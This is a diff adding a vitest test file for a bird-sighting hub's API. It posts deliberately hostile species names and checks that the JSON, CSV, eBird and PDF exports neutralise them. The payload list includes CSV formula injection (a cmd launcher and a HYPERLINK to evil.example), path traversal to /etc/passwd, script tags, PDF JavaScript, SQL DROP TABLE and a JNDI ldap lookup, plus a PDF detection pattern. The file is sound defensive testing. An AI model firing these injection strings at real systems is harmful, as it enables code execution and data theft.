@@ -1,0 +1,100 @@
+import { beforeAll, describe, expect, it } from 'vitest';
+import { findEbirdMistakes } from '../../services/reports/src/testing/ebird-rules.js';
+import { readPdf } from '../../services/reports/src/testing/read-pdf.js';
+import { startHubIn, useDataFolder } from '../e2e/fixtures/temporary-hub.js';
+import type { TestHub } from '../support/hub.js';
+import { type Answer, exchange } from './fixtures/exchange.js';
+
+/** Names that a processor may post, and that a spreadsheet, a file system or a terminal would take for something else. */
+const taken = [
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example","x")',
+  '+1+1',
+  '-2+3',
+  '@SUM(1)',
+  'Tit "quoted", with comma',
+  '../../etc/passwd',
+  '..\\..\\windows',
+  'con.mp4',
+  'tit\u202Egnp.exe',
+  'tit\u2028next',
+  '<script>alert(1)</script>',
+  '(Tit) Tj ET /JS (app.alert(1))',
+  "'; DROP TABLE species; --",
+  `\${jndi:ldap://evil}{{7*7}}`,
+  '🐦‍⬛',
+  'Sýkora koňadra',
+  'شحرور',
+];
+const refused = ['\0', 'a\0b', 'a\nb', 'a\r\nSet-Cookie: x', 'a\tb', '\u200B', ' ', '\uD800'];
+const folder = useDataFolder();
+const day = 'date=2026-05-01';
+let hub: TestHub;
+
+function post(name: string, index: number): Promise<Answer> {
+  const start = Date.parse('2026-05-01T06:00:00Z') + index * 600_000;
+  const body = {
+    processor_version: 'x',
+    start_time: new Date(start).toISOString(),
+    end_time: new Date(start + 10_000).toISOString(),
+    video_path: `names/${index}.mp4`,
+    species: [{ species_name: name, confidence: 0.9, start_time: 0, end_time: 5, source: 'video' }],
+  };
+  return send('POST', '/api/processor/videos', JSON.stringify(body));
+}
+
+const send = (method: string, path: string, body?: string) =>
+  exchange(hub.baseUrl, { method, path, headers: { 'content-type': 'application/json' }, body });
+const read = async (path: string) => (await send('GET', path)).body.toString();
+
+/** Names are kept with single spaces, whichever those were. */
+const kept = taken.map((name) => name.replaceAll(/\s+/gu, ' ')).sort();
+
+/** Cells of a row of RFC 4180. */
+const cellsOf = (row: string) =>
+  [...row.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/g)].map(
+    ([, quoted, plain = '']) => quoted?.replaceAll('""', '"') ?? plain,
+  );
+
+beforeAll(async () => {
+  hub = await startHubIn(folder);
+  const answers = await Promise.all(taken.map(post));
+  expect(answers.map(({ status }) => status)).toEqual(taken.map(() => 201));
+});
+
+describe('names made to do harm', () => {
+  it.each(refused)('%j, is refused at its place', async (name) => {
+    const answer = await post(name, 500);
+    const { details } = JSON.parse(answer.body.toString());
+    expect([answer.status, details[0].path]).toEqual([400, '/species/0/species_name']);
+  });
+
+  it('as JSON, are what they were', async () => {
+    const items: { species: { name: string } }[] = JSON.parse(await read(`/api/ui/timeline?${day}`));
+    expect(items.map(({ species }) => species.name).sort()).toEqual(kept);
+  });
+
+  it('as CSV, are each one cell of one row, and no formula', async () => {
+    const rows = (await read(`/api/ui/timeline/export?format=csv&${day}`)).trimEnd().split('\r\n').slice(1);
+    expect(rows).toHaveLength(taken.length);
+    const names = rows.map((row) => cellsOf(row)[1] ?? '');
+    for (const name of names) expect(name).not.toMatch(/^[=+\-@\t\r]/);
+    expect(names.map((name) => name.replace(/^'(?=[=+\-@])/, '')).sort()).toEqual(kept);
+  });
+
+  it('for eBird, keep to its rules and start no formula', async () => {
+    const file = await read(`/api/ui/timeline/export?format=ebird&${day}`);
+    expect(findEbirdMistakes(file)).toEqual([]);
+    expect(file).not.toMatch(/^[=+@-]/m);
+  });
+
+  it('in the report, are text and neither scripts nor links', async () => {
+    const answer = await send('GET', '/api/ui/report/pdf?month=2026-05');
+    expect(answer.status).toBe(200);
+    expect(answer.body.toString('latin1')).not.toMatch(
+      /\/JavaScript|\/JS\b|\/Launch|\/OpenAction|\/URI\s*\(http:\/\/evil/,
+    );
+    const { text } = await readPdf(answer.body);
+    expect(text).toContain('DROP TABLE');
+  });
+});
